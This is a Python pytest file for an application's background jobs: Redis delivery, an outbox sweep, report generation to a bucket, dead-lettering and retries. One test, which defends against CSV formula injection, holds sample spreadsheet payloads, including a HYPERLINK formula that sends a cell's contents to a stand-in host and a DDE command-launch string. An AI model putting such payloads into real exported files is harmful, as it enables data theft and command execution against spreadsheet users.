"""Background jobs on the real Redis broker: delivery, the outbox sweep, retries and the dead-letter set."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import httpx
import psycopg
from dramatiq.middleware import TimeLimit
from google.cloud.storage import Bucket

import backing
from alle import jobs, reports
from alle.config import Settings
from alle.db import create_pool
from alle.storage import Storage
from alle.worker import REDELIVER_AFTER_SECONDS, sweep_outbox
from conftest import ForkedAlle, Spawn, signup_and_login, wait_for

#: Older than the sweep's redelivery deadline.
DEADLINE = REDELIVER_AFTER_SECONDS + 1


def _backdate(db: psycopg.Connection[tuple[object, ...]], *tables: str) -> None:
    """Make the jobs in these outbox tables look enqueued (and created) longer ago than the redelivery deadline."""
    for table in tables:
        db.execute(
            f"UPDATE {table} SET created_at = created_at - make_interval(secs => %(s)s), "
            "enqueued_at = enqueued_at - make_interval(secs => %(s)s)",
            {"s": DEADLINE},
        )


def _scalar(db: psycopg.Connection[tuple[object, ...]], sql: str, *params: object) -> object:
    row = db.execute(sql, params).fetchone()
    return None if row is None else row[0]


@contextmanager
def _sweeper(app_env: dict[str, str]) -> Iterator[Callable[[], int]]:
    """The worker's outbox sweep, run from the test against a queue and pool of its own."""
    settings = Settings.model_validate(app_env)
    queue, runtime = jobs.create_queue(settings), jobs.build_runtime(settings)
    try:
        yield lambda: sweep_outbox(queue, runtime)
    finally:
        runtime.pool.close()
        queue.broker.close()


def test_completed_task_sends_one_notification(spawn: Spawn, db: psycopg.Connection[tuple[object, ...]]) -> None:
    web, worker = spawn("web"), spawn("worker")
    auth = signup_and_login(web.url)
    task = httpx.post(f"{web.url}/v1/tasks", json={"title": "done soon"}, headers=auth).json()
    httpx.post(f"{web.url}/v1/tasks/{task['id']}/complete", headers=auth)
    httpx.post(f"{web.url}/v1/tasks/{task['id']}/complete", headers=auth)
    httpx.patch(f"{web.url}/v1/tasks/{task['id']}", json={"status": "done"}, headers=auth)
    wait_for(
        lambda: _scalar(db, "SELECT sent_at FROM notifications WHERE task_id = %s", task["id"]) is not None,
        what="the notification",
    )
    worker.terminate()
    assert worker.output().count('"message": "mail"') == 1


def test_outbox_sweep_enqueues_notifications_the_web_could_not(
    spawn: Spawn, db: psycopg.Connection[tuple[object, ...]], app_env: dict[str, str], bucket: Bucket
) -> None:
    web = spawn("web", {"REDIS_URL": "redis://127.0.0.1:1/0"})
    auth = signup_and_login(web.url)
    task = httpx.post(f"{web.url}/v1/tasks", json={"title": "redis was down"}, headers=auth).json()
    httpx.post(f"{web.url}/v1/tasks/{task['id']}/complete", headers=auth)
    assert _scalar(db, "SELECT enqueued_at FROM notifications WHERE task_id = %s", task["id"]) is None
    db.execute("UPDATE notifications SET created_at = now() - interval '5 minutes'")
    with _sweeper(app_env) as sweep:
        assert sweep() == 1
        assert sweep() == 0
    spawn("worker")
    wait_for(
        lambda: _scalar(db, "SELECT sent_at FROM notifications WHERE task_id = %s", task["id"]) is not None,
        what="the swept notification",
    )


def test_a_report_requested_while_redis_is_down_is_accepted_and_generated_by_the_sweep(
    spawn: Spawn, db: psycopg.Connection[tuple[object, ...]], app_env: dict[str, str], bucket: Bucket
) -> None:
    """The pending row is the durable request: 202 with its id, not a 503 that leaves a row the sweep runs anyway."""
    web = spawn("web", {"REDIS_URL": "redis://127.0.0.1:1/0"})
    auth = signup_and_login(web.url)
    requested = httpx.post(f"{web.url}/v1/reports", headers=auth)
    assert requested.status_code == 202, requested.text
    report_id = requested.json()["id"]
    assert requested.headers["Location"] == f"/v1/reports/{report_id}"
    assert db.execute("SELECT status, enqueued_at FROM reports").fetchall() == [("pending", None)]
    db.execute("UPDATE reports SET created_at = now() - interval '5 minutes'")
    with _sweeper(app_env) as sweep:
        assert sweep() == 1
        assert sweep() == 0
    spawn("worker")
    wait_for(lambda: _scalar(db, "SELECT status FROM reports WHERE id = %s", report_id) == "done", what="the report")


def test_report_requested_over_http_is_written_to_the_bucket(spawn: Spawn, bucket: Bucket) -> None:
    web = spawn("web")
    spawn("worker")
    auth = signup_and_login(web.url)
    for title in ("a", "b"):
        httpx.post(f"{web.url}/v1/tasks", json={"title": title}, headers=auth)
    requested = httpx.post(f"{web.url}/v1/reports", headers=auth)
    assert requested.status_code == 202
    url = f"{web.url}{requested.headers['Location']}"
    wait_for(lambda: httpx.get(url, headers=auth).json()["status"] == "done", what="the report")
    rows = list(csv.DictReader(io.StringIO(httpx.get(f"{url}/download", headers=auth).text)))
    assert sorted(r["title"] for r in rows) == ["a", "b"]
    assert len(list(bucket.list_blobs(prefix=f"reports/{requested.json()['id']}/"))) == 1


def test_overlapping_runs_of_a_report_record_one_run_and_leave_only_its_file(
    app_env: dict[str, str], db: psycopg.Connection[tuple[object, ...]], bucket: Bucket
) -> None:
    """A redelivered job and the outbox sweep can run one report at once. Here the second run starts and finishes
    while the first is between its upload and its update, after a task was added: before, both wrote one object,
    so the file was the second run's (two rows) under the first run's count (one)."""
    owner = _scalar(db, "INSERT INTO users (email, password_hash) VALUES ('r@example.com', 'x') RETURNING id")
    db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, 'first')", (owner,))
    settings = Settings(**{k: v for k, v in app_env.items() if k in Settings.model_fields})  # type: ignore[arg-type]
    with create_pool(settings, max_size=2, name="test") as pool:
        report_id = reports.create_report(pool, owner_id=None)
        storage = Storage(settings)
        upload = storage.upload_text
        second: list[reports.Written | None] = []
        started: list[bool] = []

        def upload_then_second_run(name: str, text: str, *, content_type: str) -> None:
            upload(name, text, content_type=content_type)
            if not started:
                started.append(True)
                db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, 'second')", (owner,))
                second.append(reports.write_report(pool, storage, report_id=report_id))

        storage.upload_text = upload_then_second_run  # type: ignore[method-assign]
        first = reports.write_report(pool, storage, report_id=report_id)
    assert first is not None and first == second[0]
    assert first.rows == 2
    stored = [blob.name for blob in bucket.list_blobs(prefix=f"reports/{report_id}/")]
    assert stored == [first.object_name]
    assert len(list(csv.DictReader(io.StringIO(bucket.blob(first.object_name).download_as_text())))) == first.rows


def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_spreadsheet(
    app_env: dict[str, str], db: psycopg.Connection[tuple[object, ...]], bucket: Bucket
) -> None:
    """Read as a spreadsheet would: quote-aware, breaking rows at a bare CR too, and, as in a locale whose list
    separator is `;`, splitting fields at `;`, where the quotes of this comma-separated file start no field and a
    line break inside a title starts a row again: what follows a `;` or a line break must not start a formula."""
    titles = ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "@SUM(1+9)*cmd|' /C calc'!A0", "- milk", "plain"]
    titles += ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2", "a;=1+1;b;-c", 'a;"=1', 'x\n"@SUM(1)', "b,a;", "t\t=1"]
    owner = _scalar(db, "INSERT INTO users (email, password_hash) VALUES ('f@example.com', 'x') RETURNING id")
    for title in titles:
        db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, %s)", (owner, title))
    settings = Settings(**{k: v for k, v in app_env.items() if k in Settings.model_fields})  # type: ignore[arg-type]
    with create_pool(settings, max_size=1, name="test") as pool:
        written = reports.write_report(pool, Storage(settings), report_id=reports.create_report(pool, owner_id=None))
    assert written is not None
    text = bucket.blob(written.object_name).download_as_text()
    for separator in (",", ";", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == [], separator
    rows = list(csv.reader(io.StringIO(text, newline="")))
    column = rows[0].index("title")
    expected = [*(f"'{t}" for t in titles[:3]), "plain", "x\r'=1+1", "y\n'@SUM(1)", "z\r\n'-2", "a;'=1+1;b;'-c"]
    expected += ["a;'\"=1", "x\n'\"@SUM(1)", "b,a;", "t\t'=1"]
    assert sorted(row[column] for row in rows[1:]) == sorted(expected)


def test_outbox_sweep_redelivers_overdue_jobs_that_redis_lost_with_its_data(
    spawn: Spawn,
    db: psycopg.Connection[tuple[object, ...]],
    app_env: dict[str, str],
    services: backing.Backing,
    bucket: Bucket,
) -> None:
    web = spawn("web")
    auth = signup_and_login(web.url)
    task = httpx.post(f"{web.url}/v1/tasks", json={"title": "lost in redis"}, headers=auth).json()
    httpx.post(f"{web.url}/v1/tasks/{task['id']}/complete", headers=auth)
    report = httpx.post(f"{web.url}/v1/reports", headers=auth).json()
    assert _scalar(db, "SELECT enqueued_at FROM notifications WHERE task_id = %s", task["id"]) is not None
    services.redis.flushall()  # Redis restarts empty: both jobs are gone before any worker ran them
    with _sweeper(app_env) as sweep:
        assert sweep() == 0, "jobs enqueued just now are not due yet"
        _backdate(db, "notifications", "reports")
        with db.transaction():
            # A worker sending this mail right now holds the row: the sweep leaves it to that worker.
            db.execute("SELECT id FROM notifications WHERE task_id = %s FOR UPDATE", (task["id"],))
            assert sweep() == 1
        assert sweep() == 1
        assert sweep() == 0, "a job swept once is due again only after another deadline"
    spawn("worker")
    wait_for(
        lambda: _scalar(db, "SELECT sent_at FROM notifications WHERE task_id = %s", task["id"]) is not None,
        what="the redelivered notification",
    )
    wait_for(
        lambda: _scalar(db, "SELECT status FROM reports WHERE id = %s", report["id"]) == "done",
        what="the redelivered report",
    )


def _dead(forked_alle: ForkedAlle, env: dict[str, str]) -> list[dict[str, object]]:
    listing = forked_alle(env, "dead-jobs", "list")
    assert listing.returncode == 0, listing.stdout + listing.stderr
    return [json.loads(line) for line in listing.stdout.splitlines() if line.startswith('{"id"')]


def test_job_that_keeps_failing_is_dead_lettered_in_postgresql_and_can_be_retried(
    spawn: Spawn,
    forked_alle: ForkedAlle,
    app_env: dict[str, str],
    db: psycopg.Connection[tuple[object, ...]],
    services: backing.Backing,
    bucket: Bucket,
) -> None:
    web = spawn("web")
    broken = spawn("worker", {"STORAGE_BUCKET": "no-such-bucket"})
    auth = signup_and_login(web.url)
    report = httpx.post(f"{web.url}/v1/reports", headers=auth).json()
    # Logged once the dead letter is committed: one listing then, rather than a listing process per poll.
    wait_for(
        lambda: '"job dead-lettered"' in broken.output(), what="the job to be dead-lettered", timeout=30, proc=broken
    )
    assert broken.terminate() == 0
    [entry] = _dead(forked_alle, app_env)
    assert entry["actor"] == "generate_report" and entry["args"] == [report["id"]]
    assert entry["attempts"] == 1 + int(app_env["QUEUE_MAX_RETRIES"])  # tried, then retried up to the limit
    assert "NotFound" in str(entry["error"])
    records = [json.loads(line) for line in broken.output().splitlines()]
    [logged] = [r for r in records if r["message"] == "job dead-lettered"]
    assert logged["severity"] == "ERROR"
    assert (logged["actor"], logged["job_id"]) == ("generate_report", entry["id"])

    services.redis.flushall()  # Redis loses its data: the dead letter is still listed, from PostgreSQL
    assert _dead(forked_alle, app_env) == [entry]
    _backdate(db, "reports")
    with _sweeper(app_env) as sweep:
        assert sweep() == 0, "a dead job waits for `alle dead-jobs retry`"

    spawn("worker")
    retry = forked_alle(app_env, "dead-jobs", "retry")
    assert json.loads(retry.stdout.splitlines()[-1]) == {"retried": 1}
    assert _dead(forked_alle, app_env) == []
    url = f"{web.url}/v1/reports/{report['id']}"
    wait_for(lambda: httpx.get(url, headers=auth).json()["status"] == "done", what="the retried report")


def test_a_jobs_steps_are_bounded_by_postgresql_and_libpq_and_not_by_dramatiqs_time_limit(
    app_env: dict[str, str],
) -> None:
    """What bounds an attempt (alle.jobs.JOB_BOUNDS) reaches each of the worker pool's sessions; TimeLimit, which
    can lose a pooled connection, is not on the broker."""
    settings = Settings.model_validate(app_env)
    runtime = jobs.build_runtime(settings)
    try:
        with runtime.pool.connection() as conn:
            shown = {key: conn.execute(f"SHOW {key}").fetchone() for key in ("statement_timeout", "lock_timeout")}
            parameters = conn.info.get_parameters()
    finally:
        runtime.pool.close()
    assert shown == {"statement_timeout": {"statement_timeout": "1min"}, "lock_timeout": {"lock_timeout": "30s"}}
    assert {key: parameters.get(key) for key in ("tcp_user_timeout", "keepalives_idle", "connect_timeout")} == {
        "tcp_user_timeout": "30000",
        "keepalives_idle": "10",
        "connect_timeout": "10",
    }
    queue = jobs.create_queue(settings)
    try:
        assert not [middleware for middleware in queue.broker.middleware if isinstance(middleware, TimeLimit)]
    finally:
        queue.broker.close()


def test_the_sweep_leaves_a_report_that_alle_generate_report_runs_itself_alone(
    app_env: dict[str, str], db: psycopg.Connection[tuple[object, ...]]
) -> None:
    """An admin report is written by the job that asked for it; a second, all-users run on the worker would only
    duplicate it, and under the worker's 60 s statement limit."""
    user = db.execute("INSERT INTO users (email, password_hash) VALUES ('a@example.com', 'x') RETURNING id").fetchone()
    assert user is not None
    db.execute("INSERT INTO reports (owner_id) VALUES (NULL), (%s)", (user[0],))
    db.execute("UPDATE reports SET created_at = now() - interval '5 minutes'")
    with _sweeper(app_env) as sweep:
        assert sweep() == 1
    assert db.execute("SELECT owner_id IS NULL, enqueued_at IS NULL FROM reports ORDER BY 1").fetchall() == [
        (False, False),
        (True, True),
    ]
